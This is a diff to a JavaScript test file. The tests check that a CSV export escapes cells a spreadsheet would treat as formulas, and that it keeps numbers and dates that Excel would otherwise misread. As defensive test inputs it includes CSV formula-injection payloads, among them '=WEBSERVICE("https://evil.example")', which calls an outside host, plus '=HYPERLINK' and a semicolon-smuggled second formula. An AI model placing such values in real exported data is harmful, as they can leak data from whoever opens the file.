@@ -235,23 +235,28 @@ test('a text that a spreadsheet would run is none in the file', () => {
   const text = cells.join('\r\n');
   // Indian time.
   expect(text).toContain('"2026-11-22 01:45"');
-  for (const formula of ['=HYPERLINK', '+1', '@SUM', '-2+3', '\n=1+1']) {
+  for (const formula of ['=HYPERLINK', '@SUM', '\n=1+1']) {
     expect(text).toContain(`'${formula}`);
     expect(text).not.toMatch(new RegExp(`(^|,)"?\\${formula}`));
   }
+  // These are formulas of nothing but their text.
+  expect(text).toMatch(/"=""\+1""".*"=""-2\+3"""/);
   expect(text).toContain('"A ""quoted"", one; two\nlines","two\nlines"');
   expect(csvOf(REQUEST_COLUMNS, [{ ...row, name: '＝1+1', company: '' }])).toContain('"\'＝1+1",""');
   // Where the comma separates nothing, a semicolon within a text begins a cell.
   const inner = csvOf(REQUEST_COLUMNS, [
     { ...row, name: 'Asha;=WEBSERVICE("https://evil.example");', company: 'A\t @SUM(1)' },
   ]);
+  const signed = csvOf(REQUEST_COLUMNS, [{ ...row, name: '-1;=2', company: '-1"&A1' }]);
+  expect(signed).toContain(`"'-1;'=2","'-1""&A1"`);
   expect(inner).toContain(`"Asha;'=WEBSERVICE(""https://evil.example"");","A\t' @SUM(1)"`);
 });
 
 /** Excel would turn these texts into numbers, dates or formulas, so each is written as a formula whose result is the text. */
 const AS_FORMULAS =
   '00123|0091 98765 43210|123456789012345678|1-2|3/4|1E5|2e10|+91 98765 43210|12 Nov|MARCH1|10:30|5 1/2|(500)|TRUE|' +
-  '26/11|25/11/2026|25.11.2026|1/2/3|10:30 AM|10:30pm|5 a|March 5, 2026|1,25,000|.5|50%|₹ 500|#N/A|2026/11/25|1e-5';
+  '26/11|25/11/2026|25.11.2026|1/2/3|10:30 AM|10:30pm|5 a|March 5, 2026|1,25,000|.5|50%|₹ 500|#N/A|2026/11/25|1e-5|' +
+  '+91 98|-5|+5%|-1,000.50|- A4|-';
 const AS_THEY_ARE =
   '125000|99.50|2026-11-25|Marble paper 5|23 x 36|12x18|A4|100-120|3-4 ton|May|98100 00021|1.2.3.4|12 of 14';
 
